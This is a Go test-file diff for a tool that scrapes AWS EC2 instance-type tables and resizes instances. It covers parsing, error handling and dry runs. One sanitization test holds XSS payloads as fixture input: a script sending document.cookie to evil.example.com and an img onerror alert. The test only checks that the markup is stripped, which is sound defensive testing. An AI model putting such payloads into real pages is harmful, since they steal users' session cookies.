@@ -1,13 +1,26 @@
 package resize
 
 import (
+	"bytes"
+	"context"
+	"errors"
 	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
 	"os"
+	"path/filepath"
+	"reflect"
+	"strconv"
+	"strings"
 	"testing"
 	"time"
 
 	"github.com/mitchellh/goamz/aws"
 	"github.com/mitchellh/goamz/ec2"
+	"github.com/yhat/scrape"
+	"golang.org/x/net/html"
+	"golang.org/x/net/html/atom"
 )
 
 func TestInstanceTypes(t *testing.T) {
@@ -17,6 +30,600 @@ func TestInstanceTypes(t *testing.T) {
 	}
 }
 
+// parseFixture parses the instance types matrix of an HTML file in testdata.
+func parseFixture(t *testing.T, name string) ([]InstanceType, error) {
+	file, err := os.Open(filepath.Join("testdata", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	root, err := html.Parse(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return parseMatrix(root)
+}
+
+func TestParseMatrix(t *testing.T) {
+	types, err := parseFixture(t, "instance_types.html")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(types) != 3 {
+		t.Fatalf("expected 3 instance types, got %d", len(types))
+	}
+	expected := InstanceType{
+		Name:               "c4.8xlarge",
+		CPUs:               36,
+		Memory:             60,
+		Storage:            "EBS Only",
+		EBSOnly:            true,
+		NetworkSpec:        "10 Gigabit",
+		Processor:          "Intel Xeon E5-2666 v3",
+		ClockSpeed:         2.9,
+		IntelAVX:           true,
+		IntelAVX2:          true,
+		IntelTurbo:         true,
+		EBSOPT:             true,
+		EnhancedNetworking: true,
+		Hypervisor:         "xen",
+		Architecture:       "x86_64",
+	}
+	if !reflect.DeepEqual(types[2], expected) {
+		t.Errorf("expected %#v, got %#v", expected, types[2])
+	}
+}
+
+func TestParseGPUMatrix(t *testing.T) {
+	types, err := parseFixture(t, "gpu_matrix.html")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(types) != 3 {
+		t.Fatalf("expected 3 instance types, got %d", len(types))
+	}
+	expected := InstanceType{
+		Name:               "p3.16xlarge",
+		CPUs:               64,
+		Memory:             488,
+		Storage:            "EBS Only",
+		EBSOnly:            true,
+		NetworkSpec:        "25 Gigabit",
+		Processor:          "Intel Xeon E5-2686 v4",
+		ClockSpeed:         2.3,
+		EBSOPT:             true,
+		EnhancedNetworking: true,
+		Accelerators:       8,
+		Hypervisor:         "xen",
+		Architecture:       "x86_64",
+	}
+	if !reflect.DeepEqual(types[1], expected) {
+		t.Errorf("expected %#v, got %#v", expected, types[1])
+	}
+}
+
+func TestParseEBSMatrix(t *testing.T) {
+	types, err := parseFixture(t, "ebs_matrix.html")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(types) != 4 {
+		t.Fatalf("expected 4 instance types, got %d", len(types))
+	}
+	expected := InstanceType{
+		Name:              "i3.16xlarge",
+		CPUs:              64,
+		Memory:            488,
+		Storage:           "8 x 1900 NVMe SSD",
+		InstanceStorageGB: 15200,
+		NetworkSpec:       "25 Gigabit",
+		Processor:         "Intel Xeon E5-2686 v4",
+		EBSOPT:            true,
+		EBSBandwidthMbps:  14000,
+		Hypervisor:        "xen",
+		Architecture:      "x86_64",
+	}
+	if !reflect.DeepEqual(types[1], expected) {
+		t.Errorf("expected %#v, got %#v", expected, types[1])
+	}
+	// bandwidth from a footnote, and none stated
+	for i, want := range map[int]int{0: 750, 2: 500, 3: 0} {
+		if got := types[i].EBSBandwidthMbps; got != want {
+			t.Errorf("%s: expected EBS bandwidth %d, got %d", types[i].Name, want, got)
+		}
+	}
+	if !types[2].EBSOPT {
+		t.Errorf("%s: expected EBS optimization with a footnote to be parsed", types[2].Name)
+	}
+}
+
+func TestParseFootnoteMatrix(t *testing.T) {
+	types, err := parseFixture(t, "footnote_matrix.html")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(types) != 3 {
+		t.Fatalf("expected 3 instance types, got %d", len(types))
+	}
+	for i, want := range []struct {
+		cpus       int
+		memory     float64
+		clockSpeed float64
+	}{
+		{2, 8, 3.0},
+		{2, 8, 2.4},
+		{2, 15.25, 2.3},
+	} {
+		got := types[i]
+		if got.CPUs != want.cpus || got.Memory != want.memory || got.ClockSpeed != want.clockSpeed {
+			t.Errorf("%s: expected %d vCPUs, %v GiB and %v GHz, got %d, %v and %v", got.Name,
+				want.cpus, want.memory, want.clockSpeed, got.CPUs, got.Memory, got.ClockSpeed)
+		}
+	}
+}
+
+// parseTable parses the rows of an HTML table whose first row is its header.
+func parseTable(t *testing.T, header []string, rows ...[]string) ([]InstanceType, error) {
+	var buf bytes.Buffer
+	buf.WriteString("<table>")
+	for _, row := range append([][]string{header}, rows...) {
+		buf.WriteString("<tr>")
+		for _, cell := range row {
+			buf.WriteString("<td>" + cell + "</td>")
+		}
+		buf.WriteString("</tr>")
+	}
+	buf.WriteString("</table>")
+	doc, err := html.Parse(&buf)
+	if err != nil {
+		t.Fatal(err)
+	}
+	trs := scrape.Find(doc, scrape.ByTag(atom.Tr))
+	cols, err := parseHeader(trs[0])
+	if err != nil {
+		t.Fatal(err)
+	}
+	var types []InstanceType
+	for _, tr := range trs[1:] {
+		typ, err := parseRow(tr, cols)
+		if err != nil {
+			return nil, err
+		}
+		types = append(types, typ)
+	}
+	return types, nil
+}
+
+func TestParseRowSanitized(t *testing.T) {
+	header := []string{"Instance Type", "vCPU", "Memory (GiB)", "Physical Processor"}
+	types, err := parseTable(t, header, []string{
+		`m5.large<script>document.location="http://evil.example.com/?"+document.cookie</script>`,
+		"2",
+		"8",
+		`Intel &lt;img src=x onerror=alert(1)&gt;Xeon<style>body{display:none}</style> <!-- note --> Platinum&#x7; 8175`,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(types) != 1 {
+		t.Fatalf("expected 1 instance type, got %d", len(types))
+	}
+	if got := types[0].Name; got != "m5.large" {
+		t.Errorf("expected the name as plain text, got %q", got)
+	}
+	if got := types[0].Processor; got != "Intel Xeon Platinum 8175" {
+		t.Errorf("expected the processor as plain text, got %q", got)
+	}
+	for _, s := range []string{types[0].Name, types[0].Processor} {
+		if strings.ContainsAny(s, "<>") || strings.Contains(s, "document") || strings.Contains(s, "display") {
+			t.Errorf("expected markup to be stripped, got %q", s)
+		}
+	}
+}
+
+func TestParseRowColumns(t *testing.T) {
+	header12 := []string{"Instance Type", "vCPU", "Memory (GiB)", "Storage (GB)", "Networking Performance",
+		"Physical Processor", "Clock Speed (GHz)", "Intel AVX", "Intel AVX2", "Intel Turbo", "EBS OPT", "Enhanced Networking"}
+	row12 := []string{"c4.large", "2", "3.75", "EBS Only", "Moderate",
+		"Intel Xeon E5-2666 v3", "2.9", "Yes", "Yes", "Yes", "Yes", "Yes"}
+	full := InstanceType{
+		Name:               "c4.large",
+		CPUs:               2,
+		Memory:             3.75,
+		Storage:            "EBS Only",
+		EBSOnly:            true,
+		NetworkSpec:        "Moderate",
+		Processor:          "Intel Xeon E5-2666 v3",
+		ClockSpeed:         2.9,
+		IntelAVX:           true,
+		IntelAVX2:          true,
+		IntelTurbo:         true,
+		EBSOPT:             true,
+		EnhancedNetworking: true,
+		Hypervisor:         "xen",
+		Architecture:       "x86_64",
+	}
+
+	// no AVX2 or turbo columns
+	without := func(cells []string) []string {
+		return append(append([]string{}, cells[:8]...), cells[10:]...)
+	}
+	partial := full
+	partial.IntelAVX2, partial.IntelTurbo = false, false
+
+	// unrecognized columns, including one among the known ones
+	with := func(cells []string, extra ...string) []string {
+		c := append([]string{extra[0]}, cells...)
+		return append(c, extra[1:]...)
+	}
+
+	tests := []struct {
+		name   string
+		header []string
+		row    []string
+		want   InstanceType
+	}{
+		{"10 columns", without(header12), without(row12), partial},
+		{"12 columns", header12, row12, full},
+		{"14 columns", with(header12, "Family", "Price"), with(row12, "Compute optimized", "$0.10"), full},
+		{"short row", header12, row12[:7], InstanceType{
+			Name:         "c4.large",
+			CPUs:         2,
+			Memory:       3.75,
+			Storage:      "EBS Only",
+			EBSOnly:      true,
+			NetworkSpec:  "Moderate",
+			Processor:    "Intel Xeon E5-2666 v3",
+			ClockSpeed:   2.9,
+			Hypervisor:   "xen",
+			Architecture: "x86_64",
+		}},
+		{"long row", header12, append(row12, "ignored"), full},
+	}
+	for _, test := range tests {
+		types, err := parseTable(t, test.header, test.row)
+		if err != nil {
+			t.Errorf("%s: %v", test.name, err)
+			continue
+		}
+		if len(types) != 1 || !reflect.DeepEqual(types[0], test.want) {
+			t.Errorf("%s: expected %#v, got %#v", test.name, test.want, types)
+		}
+	}
+
+	// rows without the required columns can't be parsed
+	if _, err := parseTable(t, header12, row12[:2]); err == nil {
+		t.Errorf("expected an error for a row without memory")
+	}
+}
+
+func TestParseBurstableRow(t *testing.T) {
+	header := []string{"Instance Type", "vCPU", "Baseline Performance / vCPU", "CPU Credits Earned / Hr", "Memory (GiB)"}
+	types, err := parseTable(t, header,
+		[]string{"t3.micro", "2", "10%", "12", "1"},
+		[]string{"t4g.small", "2", "", "24", "2"},
+		[]string{"m5.large", "2", "", "", "8"},
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, want := range []struct {
+		name      string
+		cpus      int
+		burstable bool
+		baseline  float64
+	}{
+		{"t3.micro", 2, true, 10},
+		// the baseline is looked up if the cell is empty
+		{"t4g.small", 2, true, 20},
+		{"m5.large", 2, false, 0},
+	} {
+		got := types[i]
+		if got.Name != want.name || got.CPUs != want.cpus || got.Burstable != want.burstable || got.BaselinePercent != want.baseline {
+			t.Errorf("expected %s with %d vCPUs, burstable %v and a %v%% baseline, got %s with %d, %v and %v%%", want.name,
+				want.cpus, want.burstable, want.baseline, got.Name, got.CPUs, got.Burstable, got.BaselinePercent)
+		}
+	}
+}
+
+func TestParseAcceleratorCells(t *testing.T) {
+	header := []string{"Instance Type", "vCPU", "Memory (GiB)", "GPUs"}
+	types, err := parseTable(t, header,
+		[]string{"p3.2xlarge", "8", "61", "1*"},
+		[]string{"p3.8xlarge", "32", "244", " 4 (2)"},
+		[]string{"m5.large", "2", "8", "-"},
+		[]string{"m5.xlarge", "4", "16", ""},
+	)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i, want := range []int{1, 4, 0, 0} {
+		if got := types[i].Accelerators; got != want {
+			t.Errorf("%s: expected %d accelerators, got %d", types[i].Name, want, got)
+		}
+	}
+	if _, err := parseTable(t, header, []string{"p3.2xlarge", "8", "61", "one"}); err == nil {
+		t.Errorf("expected an error for a non-numeric accelerator count")
+	}
+}
+
+func TestCellText(t *testing.T) {
+	row := "<table><tr>" +
+		"<td>\n  m4.large&nbsp;\n\n</td>" +
+		"<td>Up&nbsp;to\n\n  10 \t Gigabit</td>" +
+		"<td>Intel Xeon<sup>*</sup>\r\nE5-2676 v3</td>" +
+		"<td>&nbsp;</td>" +
+		"</tr></table>"
+	doc, err := html.Parse(strings.NewReader(row))
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows := scrape.Find(doc, scrape.ByTag(atom.Tr))
+	if len(rows) != 1 {
+		t.Fatalf("expected one row, got %d", len(rows))
+	}
+	want := []string{"m4.large", "Up to 10 Gigabit", "Intel Xeon * E5-2676 v3", ""}
+	cells := rowCells(rows[0])
+	if len(cells) != len(want) {
+		t.Fatalf("expected %d cells, got %d", len(want), len(cells))
+	}
+	for i, cell := range cells {
+		if got := cellText(cell); got != want[i] {
+			t.Errorf("cell %d: expected %q, got %q", i, want[i], got)
+		}
+	}
+}
+
+func TestLeadingNumber(t *testing.T) {
+	for s, want := range map[string]string{
+		"2.5*":      "2.5",
+		" 36 ":      "36",
+		"15.25 (1)": "15.25",
+		"8\u2020":   "8",
+		"4.":        "4",
+		"Up to 3.0": "Up to 3.0",
+		"":          "",
+	} {
+		if got := leadingNumber(s); got != want {
+			t.Errorf("leadingNumber(%q) = %q, want %q", s, got, want)
+		}
+	}
+	if _, err := strconv.ParseFloat(leadingNumber("Up to 3.0"), 64); err == nil {
+		t.Errorf("expected a cell without a leading number to fail parsing")
+	}
+}
+
+func TestParseStorage(t *testing.T) {
+	for s, want := range map[string]struct {
+		ebsOnly bool
+		gb      int
+	}{
+		"EBS Only":           {true, 0},
+		"EBS-only":           {true, 0},
+		"1 x 32 SSD":         {false, 32},
+		"1 x 75 NVMe SSD":    {false, 75},
+		"8 x 1900 NVMe SSD":  {false, 15200},
+		"2 x 1,900 NVMe SSD": {false, 3800},
+		"3 x 2000 HDD":       {false, 6000},
+		"2 x 420":            {false, 840},
+		"24 x 2TB HDD":       {false, 48000},
+		"1 x 0.475 TB":       {false, 475},
+		"160 SSD":            {false, 160},
+		" 4 ":                {false, 4},
+		"":                   {false, 0},
+		"-":                  {false, 0},
+		"Varies":             {false, 0},
+		"many x 2 SSD":       {false, 0},
+	} {
+		ebsOnly, gb := parseStorage(s)
+		if ebsOnly != want.ebsOnly || gb != want.gb {
+			t.Errorf("parseStorage(%q) = %t, %d, want %t, %d", s, ebsOnly, gb, want.ebsOnly, want.gb)
+		}
+	}
+}
+
+func TestParseMbps(t *testing.T) {
+	for s, want := range map[string]int{
+		"4,750":            4750,
+		"Up to 3,500 Mbps": 3500,
+		"10 Gbps":          10000,
+		"Yes (500 Mbps)":   500,
+		"-":                0,
+		"":                 0,
+	} {
+		if got := parseMbps(s); got != want {
+			t.Errorf("parseMbps(%q) = %d, want %d", s, got, want)
+		}
+	}
+}
+
+type roundTripperFunc func(r *http.Request) (*http.Response, error)
+
+func (f roundTripperFunc) RoundTrip(r *http.Request) (*http.Response, error) {
+	return f(r)
+}
+
+// fixtureClient returns a client which responds to every request with the
+// given status code and body.
+func fixtureClient(status int, body string) *http.Client {
+	rt := func(r *http.Request) (*http.Response, error) {
+		return &http.Response{
+			Status:     http.StatusText(status),
+			StatusCode: status,
+			Header:     make(http.Header),
+			Body:       ioutil.NopCloser(bytes.NewBufferString(body)),
+			Request:    r,
+		}, nil
+	}
+	return &http.Client{Transport: roundTripperFunc(rt)}
+}
+
+// servePage serves the file name in testdata in place of the AWS instance
+// types page. Requests made with the returned client are sent to the server,
+// whatever their URL.
+func servePage(t *testing.T, name string) *http.Client {
+	s := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		http.ServeFile(w, r, filepath.Join("testdata", name))
+	}))
+	t.Cleanup(s.Close)
+	u, err := url.Parse(s.URL)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rt := func(r *http.Request) (*http.Response, error) {
+		r = r.Clone(r.Context())
+		r.URL.Scheme, r.URL.Host = u.Scheme, u.Host
+		return http.DefaultTransport.RoundTrip(r)
+	}
+	return &http.Client{Transport: roundTripperFunc(rt)}
+}
+
+func TestInstanceTypesPage(t *testing.T) {
+	types, err := InstanceTypes(servePage(t, "aws_instance_types.html"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(types) != 16 {
+		t.Fatalf("expected 16 instance types, got %d", len(types))
+	}
+	byName := make(map[string]InstanceType)
+	for _, typ := range types {
+		byName[typ.Name] = typ
+	}
+	expected := InstanceType{
+		Name:               "m5.large",
+		CPUs:               2,
+		Memory:             8,
+		Storage:            "EBS-Only",
+		EBSOnly:            true,
+		NetworkSpec:        "Up to 10 Gigabit",
+		Processor:          "Intel Xeon Platinum 8175",
+		ClockSpeed:         3.1,
+		IntelAVX:           true,
+		IntelAVX2:          true,
+		IntelTurbo:         true,
+		EBSOPT:             true,
+		EnhancedNetworking: true,
+		Hypervisor:         "nitro",
+		Architecture:       "x86_64",
+	}
+	if got := byName["m5.large"]; !reflect.DeepEqual(got, expected) {
+		t.Errorf("expected %#v, got %#v", expected, got)
+	}
+	for _, want := range []struct {
+		name    string
+		cpus    int
+		memory  float64
+		storage int
+		arch    string
+	}{
+		{"t2.nano", 1, 0.5, 0, "x86_64"},
+		{"m6g.large", 2, 8, 0, "arm64"},
+		{"x1.16xlarge", 64, 976, 1920, "x86_64"},
+		{"i3.large", 2, 15.25, 475, "x86_64"},
+		{"d2.8xlarge", 36, 244, 48000, "x86_64"},
+	} {
+		got, ok := byName[want.name]
+		if !ok {
+			t.Errorf("%s: not found", want.name)
+			continue
+		}
+		if got.CPUs != want.cpus || got.Memory != want.memory || got.InstanceStorageGB != want.storage || got.Architecture != want.arch {
+			t.Errorf("%s: expected %d vCPUs, %v GiB, %d GB of instance store and %s, got %d, %v, %d and %s",
+				want.name, want.cpus, want.memory, want.storage, want.arch,
+				got.CPUs, got.Memory, got.InstanceStorageGB, got.Architecture)
+		}
+	}
+}
+
+func TestInstanceTypesPageChanged(t *testing.T) {
+	types, err := InstanceTypes(servePage(t, "aws_instance_types_changed.html"))
+	scrapeErr, ok := err.(*ScrapeError)
+	if !ok {
+		t.Fatalf("expected error of type *ScrapeError, got %v and %d types", err, len(types))
+	}
+	if scrapeErr.StatusCode != http.StatusOK {
+		t.Errorf("expected status code 200, got %d", scrapeErr.StatusCode)
+	}
+}
+
+func TestInstanceTypesPageChallenge(t *testing.T) {
+	_, err := InstanceTypes(servePage(t, "cloudflare_challenge.html"))
+	var scrapeErr *ScrapeError
+	var challenge *ChallengeError
+	if !errors.As(err, &scrapeErr) || !errors.As(err, &challenge) {
+		t.Fatalf("expected a *ScrapeError for a *ChallengeError, got %v", err)
+	}
+	if scrapeErr.StatusCode != http.StatusOK || !isParseError(err) {
+		t.Errorf("expected status code 200 and a parse error, got %d", scrapeErr.StatusCode)
+	}
+	if !strings.Contains(err.Error(), "requires JavaScript") {
+		t.Errorf("expected the error to explain the page requires JavaScript, got %q", err)
+	}
+
+	// challenges served with an error status are recognized too
+	body, err := ioutil.ReadFile(filepath.Join("testdata", "cloudflare_challenge.html"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, err = InstanceTypes(fixtureClient(http.StatusForbidden, string(body)))
+	if !errors.As(err, &challenge) || !isParseError(err) {
+		t.Errorf("expected a *ChallengeError for a 403 challenge, got %v", err)
+	}
+	_, err = InstanceTypes(fixtureClient(http.StatusForbidden, "<html><body>Forbidden</body></html>"))
+	if errors.As(err, &challenge) || isParseError(err) {
+		t.Errorf("expected a plain 403 not to be a challenge, got %v", err)
+	}
+
+	// pages whose structure changed aren't mistaken for challenges
+	_, err = InstanceTypes(fixtureClient(http.StatusOK, "<html><body><p>page layout changed</p><script>render()</script></body></html>"))
+	if errors.As(err, &challenge) || !strings.Contains(err.Error(), "page structure changed") {
+		t.Errorf("expected the changed page to be reported as such, got %v", err)
+	}
+}
+
+func TestInstanceTypesDebug(t *testing.T) {
+	body := "<html><body><p>page layout changed</p></body></html>"
+	_, err := InstanceTypesDebug(fixtureClient(http.StatusOK, body))
+	scrapeErr, ok := err.(*ScrapeError)
+	if !ok {
+		t.Fatalf("expected error of type *ScrapeError, got %v", err)
+	}
+	if scrapeErr.StatusCode != http.StatusOK {
+		t.Errorf("expected status code 200, got %d", scrapeErr.StatusCode)
+	}
+	if string(scrapeErr.Body) != body {
+		t.Errorf("expected body %q, got %q", body, scrapeErr.Body)
+	}
+
+	_, err = InstanceTypes(fixtureClient(http.StatusOK, body))
+	scrapeErr, ok = err.(*ScrapeError)
+	if !ok {
+		t.Fatalf("expected error of type *ScrapeError, got %v", err)
+	}
+	if scrapeErr.Body != nil {
+		t.Errorf("expected InstanceTypes not to capture the response body")
+	}
+}
+
+func TestResizeInstanceDryRun(t *testing.T) {
+	inst := ec2.Instance{InstanceId: "i-1234", InstanceType: "t2.small"}
+	inst.State.Name = "running"
+	var steps eventLog
+	// no requests are made during a dry run, so no client is required
+	if err := resizeInstance(context.Background(), nil, &steps, inst, "t2.medium", true, DefaultRetryPolicy); err != nil {
+		t.Fatal(err)
+	}
+	if len(steps) != 3 {
+		t.Errorf("expected stop, modify and start steps, got %v", steps)
+	}
+
+	inst.State.Name = "pending"
+	if err := resizeInstance(context.Background(), nil, &steps, inst, "t2.medium", true, DefaultRetryPolicy); err == nil {
+		t.Errorf("expected error resizing a pending instance")
+	}
+}
+
 // taken from http://cloud-images.ubuntu.com/locator/ec2/
 var UbuntuInstances = map[string]string{
 	"ap-northeast-1": "ami-d4c807d4",
@@ -83,15 +690,15 @@ func TestInstanceResize(t *testing.T) {
 
 	//Make sure the test instance is in the running state before we proceed
 	w := ioutil.Discard
-	if err := pollUntilRunning(ec2Cli, w, instance.InstanceId); err != nil {
+	if err := pollUntilRunning(context.Background(), ec2Cli, w, instance.InstanceId); err != nil {
 		t.Error(err)
 		return
 	}
-	if err := stopAndWait(ec2Cli, w, instance.InstanceId); err != nil {
+	if err := stopAndWait(context.Background(), ec2Cli, w, instance.InstanceId, DefaultRetryPolicy); err != nil {
 		t.Error(err)
 		return
 	}
-	if err := resize(ec2Cli, instance.InstanceId, "t2.medium"); err != nil {
+	if err := resize(context.Background(), ec2Cli, instance.InstanceId, "t2.medium", DefaultRetryPolicy); err != nil {
 		t.Error(err)
 		return
 	}
@@ -118,3 +725,18 @@ func TestInstanceResize(t *testing.T) {
 	}
 	t.Error("Timed out waiting for instance size change to be reflected")
 }
+
+func TestInstanceTypesContextCanceled(t *testing.T) {
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	client := &http.Client{Transport: roundTripperFunc(func(r *http.Request) (*http.Response, error) {
+		return nil, r.Context().Err()
+	})}
+	_, err := InstanceTypesContext(ctx, client)
+	if err == nil {
+		t.Fatal("expected error from canceled context")
+	}
+	if !errors.Is(err, context.Canceled) {
+		t.Errorf("expected context.Canceled, got %v", err)
+	}
+}